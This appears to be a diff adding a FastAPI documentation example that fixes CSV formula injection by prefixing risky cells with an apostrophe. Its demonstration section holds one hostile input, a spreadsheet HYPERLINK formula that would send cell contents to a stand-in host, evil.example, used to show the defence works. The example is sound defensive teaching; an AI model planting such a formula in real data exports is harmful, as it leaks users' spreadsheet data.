@@ -1,0 +1,80 @@
+"""The fix: a CSV response class that keeps any cell from starting a formula."""
+
+# --8<-- [start:app]
+import csv
+import io
+from collections import deque
+from typing import Any
+
+from fastapi import FastAPI
+from fastapi.responses import Response
+from pydantic import BaseModel, Field
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def inert(value: Any) -> Any:
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
+
+
+class CSVResponse(Response):
+    media_type = "text/csv"
+
+    def render(self, content: Any) -> bytes:
+        out = io.StringIO()
+        writer = csv.DictWriter(out, fieldnames=list(content[0]))
+        writer.writeheader()
+        for row in content:
+            writer.writerow({key: inert(value) for key, value in row.items()})
+        return out.getvalue().encode(self.charset)
+
+
+class Contact(BaseModel):
+    name: str = Field(max_length=100)
+    city: str = Field(max_length=100)
+
+
+app = FastAPI()
+
+CONTACTS = deque([Contact(name="Ada", city="London")], maxlen=50)
+
+
+@app.post("/contacts", status_code=201)
+def add_contact(contact: Contact) -> Contact:
+    CONTACTS.append(contact)
+    return contact
+
+
+@app.get("/contacts.csv", response_class=CSVResponse)
+def export_contacts() -> list[Contact]:
+    return list(CONTACTS)
+
+
+# --8<-- [end:app]
+
+
+if __name__ == "__main__":
+    # --8<-- [start:try_it]
+    from fastapi.testclient import TestClient
+
+    client = TestClient(app)
+
+    evil = {"name": '=HYPERLINK("http://evil.example/?"&A1,"Details")', "city": "Oslo"}
+    client.post("/contacts", json=evil)
+    export = client.get("/contacts.csv")
+    print(export.status_code, export.headers["content-type"])
+    #> 200 text/csv; charset=utf-8
+    for line in export.text.splitlines():
+        print(line)
+        #> name,city
+        #> Ada,London
+        #> "'=HYPERLINK(""http://evil.example/?""&A1,""Details"")",Oslo
+
+    tricky = {"name": 'Lee, "Sam"\nJr.', "city": "Paris"}
+    client.post("/contacts", json=tricky)
+    rows = list(csv.DictReader(io.StringIO(client.get("/contacts.csv").text)))
+    print(rows[-1])
+    #> {'name': 'Lee, "Sam"\nJr.', 'city': 'Paris'}
+    # --8<-- [end:try_it]
